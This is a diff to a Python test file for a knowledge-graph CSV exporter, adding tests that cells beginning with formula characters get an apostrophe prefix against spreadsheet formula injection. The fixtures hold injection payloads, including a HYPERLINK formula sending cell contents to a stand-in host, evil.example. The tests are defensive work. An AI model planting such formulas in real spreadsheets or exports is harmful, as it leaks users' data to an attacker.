@@ -8,7 +8,7 @@ from pathlib import Path
 
 import networkx as nx
 import pytest
-from graph_fixtures import HOSTILE_NAME, any_store, fill, fill_hostile, news_store  # noqa: F401
+from graph_fixtures import HOSTILE_NAME, any_store, fill, fill_hostile, make_result, news_store, write_document  # noqa: F401
 from lxml import etree
 from rdflib import Dataset, Graph, Literal
 from rdflib.namespace import XSD
@@ -19,6 +19,7 @@ from kg.export.gexf import GEXF_NS, VIZ_NS
 from kg.analysis.network import entity_graph, read_facts
 from kg.store.graph_store import GraphStore
 from kg.export.html import colour_of
+from kg.export.tables import FORMULA_STARTS, safe_cell
 
 GEXF_SCHEMA = Path(__file__).parent / "data" / "gexf-1.3" / "gexf.rng"
 NS = {"g": GEXF_NS, "viz": VIZ_NS}
@@ -212,6 +213,42 @@ def test_hostile_strings_round_trip_through_csv(hostile_store, tmp_path):
     assert HOSTILE_NAME in {n["Label"] for n in read_csv(nodes_path)}
     (edge,) = read_csv(edges_path)
     assert edge["Sentence"] == read_facts(hostile_store)[0].sentence
+
+
+FORMULA_ENTITIES = {
+    "ben": ("Person", '=HYPERLINK("http://evil.example/?x="&A1,"Ben")', ()),
+    "acme": ("Organization", "@SUM(1+1)", ()),
+}
+FORMULA_SENTENCE = '-2+3 =HYPERLINK("http://evil.example/?x="&A1,"Ben") joined @SUM(1+1).'
+
+
+@pytest.fixture
+def formula_store():
+    """A one-fact graph whose names and sentence begin with characters a spreadsheet runs as formulas."""
+    result = make_result("formula", "+cmd", None, [FORMULA_SENTENCE], [("ben", "employedBy", "acme", 0)], FORMULA_ENTITIES)
+    with GraphStore("memory") as store:
+        write_document(store, result)
+        yield store
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_a_cell_beginning_with_a_formula_character_gets_an_apostrophe(start):
+    assert safe_cell(f"{start}1+1") == f"'{start}1+1"
+    assert safe_cell(f"a{start}1") == f"a{start}1"
+
+
+def test_csv_cells_are_neutralised_and_raw_keeps_them(formula_store, tmp_path):
+    nodes_path, edges_path = export(formula_store, "csv", tmp_path / "safe")
+    labels = {n["Label"] for n in read_csv(nodes_path)}
+    assert labels == {"'" + FORMULA_ENTITIES["ben"][1], "'@SUM(1+1)"}
+    (edge,) = read_csv(edges_path)
+    assert edge["Sentence"] == "'" + FORMULA_SENTENCE
+    assert edge["Confidence"] == "0.9"  # numbers unchanged
+    every_cell = [c for row in csv.reader(nodes_path.open()) for c in row] + [c for row in csv.reader(edges_path.open()) for c in row]
+    assert not [c for c in every_cell if c.startswith(FORMULA_STARTS)]
+    raw_nodes, raw_edges = export(formula_store, "csv", tmp_path / "raw", raw=True)
+    assert {n["Label"] for n in read_csv(raw_nodes)} == {FORMULA_ENTITIES["ben"][1], "@SUM(1+1)"}
+    assert read_csv(raw_edges)[0]["Sentence"] == FORMULA_SENTENCE
 
 
 def test_jsonl_has_one_fact_a_line_with_sentence_and_document(any_store, tmp_path):
